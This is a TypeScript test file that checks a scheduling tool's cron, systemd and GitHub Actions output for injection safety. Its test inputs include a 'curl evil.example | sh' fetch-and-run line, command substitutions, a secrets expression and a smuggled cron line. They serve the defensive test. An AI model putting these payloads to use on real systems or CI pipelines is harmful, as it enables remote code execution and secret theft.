/** What is printed for cron, systemd and GitHub holds our lines alone, whatever files, folders and clients are called. */
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { normaliseSchedule, scheduleSchema } from "../../../src/goals/schedule.js";
import { printSchedule, type Scheduler } from "../../../src/workflows/schedule/print.js";

const raw = { cron: "0 7 * * 1", to: "reports" };
const scheduled = (more: object = {}) => normaliseSchedule("weekly", { ...raw, ...more });
const print = (
  scheduler: Scheduler,
  names: { readonly files?: readonly string[]; readonly directory?: string; readonly to?: string },
) =>
  printSchedule(scheduler, [scheduled(names.to === undefined ? {} : { to: names.to })], {
    files: names.files ?? ["goals/*.yaml"],
    directory: names.directory ?? "/srv/shop",
    now: new Date("2026-11-02T08:00:00Z"),
  });

const NASTY = [
  "a%b; curl evil.example | sh",
  "a'b'$(id)`id`\"c\\",
  "${{ secrets.KEY }}",
  "x: y # z",
  "- run: id",
  "!a&b*c",
  "50 % $HOME",
];
const LINES = ["a\nb", "a\r* * * * * root id", "a\u2028b", "a\u0085b", "a\u001b[2Jb"];

/** One word as a shell reads it. */
const shellWord = (text: string): string =>
  text.startsWith("'") ? text.slice(1, -1).replaceAll("'\\''", "'") : text;

describe("a schedule for another program", () => {
  it.each(NASTY)("in a folder %j is the lines that it is elsewhere", (name) => {
    for (const scheduler of ["cron", "systemd", "github-actions"] as const) {
      const lines = print(scheduler, { files: [name], directory: `/srv/${name}` }).split("\n");
      expect(lines).toHaveLength(print(scheduler, {}).split("\n").length);
    }
    const cron = print("cron", { directory: `/srv/${name}`, files: ["a.yaml"] }).split("\n")[2] ?? "";
    expect(cron.replaceAll("\\%", "")).not.toContain("%");
    const [, word = ""] = /^0 7 \* \* 1 cd (.*) && npx ga4-goals/.exec(cron) ?? [];
    expect(shellWord(word.replaceAll("\\%", "%"))).toBe(`/srv/${name}`);
  });

  it.each(NASTY)("for GitHub: %j is one word of the step's command, and no expression", (name) => {
    const text = print("github-actions", { files: [name], to: name });
    const workflow = parse(text) as {
      readonly jobs: {
        readonly report: {
          readonly steps: readonly { readonly run?: string; readonly with?: Record<string, unknown> }[];
        };
      };
    };
    const { steps } = workflow.jobs.report;
    const plain = (value: unknown): string => String(value).replaceAll("${{ '${{' }}", "${{");
    const [run = ""] = steps.flatMap((step) => (step.run?.startsWith("npx") ? [step.run] : []));
    expect(shellWord(plain(run).replace("npx ga4-goals schedule run --once weekly ", ""))).toBe(name);
    expect(plain(steps.at(-1)?.with?.path)).toBe(name);
    expect(steps).toHaveLength(6);
    // What is left of `${{` is ours.
    const expressions = text.replaceAll("${{ '${{' }}", "").match(/\$\{\{.*?\}\}/g) ?? [];
    expect(expressions.filter((one) => !/^\$\{\{ vars\.\w+ \}\}$/.test(one))).toEqual([]);
  });

  it.each(LINES)("does not take %j, which would end a line", (name) => {
    for (const scheduler of ["cron", "systemd", "github-actions"] as const)
      for (const names of [{ directory: name }, { files: [name] }, { to: name }])
        expect(() => print(scheduler, names)).toThrow(/ends a line/);
  });

  it("takes no cron expression with anything but its five fields", () => {
    for (const cron of ["0 7 * * 1\n* * * * * id", "0 7 * * 1 id", "0 7 * * %", '0 7 * * "', "0 7 * * `id`"])
      expect(scheduleSchema.safeParse({ cron }).success).toBe(false);
  });
});
